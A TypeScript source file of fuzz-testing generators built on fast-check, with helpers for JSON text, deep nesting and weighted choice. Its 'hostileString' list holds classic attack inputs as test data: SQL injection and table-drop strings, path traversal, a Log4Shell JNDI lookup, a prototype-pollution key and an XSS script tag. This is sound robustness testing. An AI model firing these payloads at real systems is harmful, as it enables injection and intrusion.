/** Building blocks of the fuzz generators: JSON text helpers, weighted choice, and hostile strings and JSON. */
import fc from "fast-check";

export const J = (v: unknown) => JSON.stringify(v);
/** A JSON object's text from raw JSON member texts (undefined: the member is left out). */
export const objectText = (members: Array<[string, string | undefined]>) =>
  `{${members
    .filter((m): m is [string, string] => m[1] !== undefined)
    .map(([k, v]) => `${J(k)}:${v}`)
    .join(",")}}`;
/** Nesting built as text, iteratively: JSON.stringify would overflow the stack thousands of levels down. */
export function nestedText(depth: number, kind: "object" | "array" | "mixed"): string {
  let open = "";
  let close = "";
  for (let i = 0; i < depth; i++) {
    const array = kind === "array" || (kind === "mixed" && i % 2 === 1);
    open += array ? "[" : '{"k":';
    close = (array ? "]" : "}") + close;
  }
  return `${open}0${close}`;
}
/** What a client sends for a string that is not Latin-1: its UTF-8 bytes, one header "character" each. */
export const toByteString = (s: string) =>
  Buffer.from(s, "utf8")
    .toString("latin1")
    .replace(/[\0\r\n]/g, "");
export const weighted = <T>(...items: Array<[number, fc.Arbitrary<T>]>) =>
  fc.oneof(...items.map(([weight, arbitrary]) => ({ weight, arbitrary })));
export const huge = (min: number, max: number, ch = "x") => fc.integer({ min, max }).map((n) => ch.repeat(n));
/** Lone surrogates replaced by U+FFFD (what a UTF-8 encoder does; encodeURIComponent throws instead). */
export const wellFormed = (s: string) =>
  s.replace(/[\ud800-\udbff][\udc00-\udfff]|[\ud800-\udfff]/g, (m) => (m.length === 2 ? m : "\ufffd"));

export const hostileString: fc.Arbitrary<string> = weighted<string>(
  [3, fc.string({ unit: "grapheme", maxLength: 30 })],
  [2, fc.string({ unit: "binary", maxLength: 30 })],
  [1, fc.string({ unit: "binary-ascii", maxLength: 30 })],
  [
    3,
    fc.constantFrom(
      "",
      " ",
      "\t",
      "\u0000",
      "a\u0000b",
      "\r\n",
      "é",
      "😀",
      "\u202e",
      "\ufeff",
      "\ud800",
      "a\udc00b",
      "' or 1=1 --",
      "'; drop table watches; --",
      "../..",
      "%00",
      "null",
      "__proto__",
      "\\",
      '"',
      "${jndi:ldap://x.invalid/a}",
      "<script>alert(1)</script>",
      "ǅİßﬀ",
    ),
  ],
  [1, huge(100, 12_000)],
);

/** Any JSON value's text, unicode strings included. */
export const anyJson: fc.Arbitrary<string> = weighted<string>(
  [3, fc.jsonValue({ maxDepth: 3 }).map(J)],
  [1, fc.jsonValue({ maxDepth: 2, stringUnit: "binary" }).map(J)],
  [1, hostileString.map(J)],
  [1, fc.constantFrom("1e400", "-0", "1e-400", "123456789012345678901234567890", "[]", "{}", "null", "true")],
);
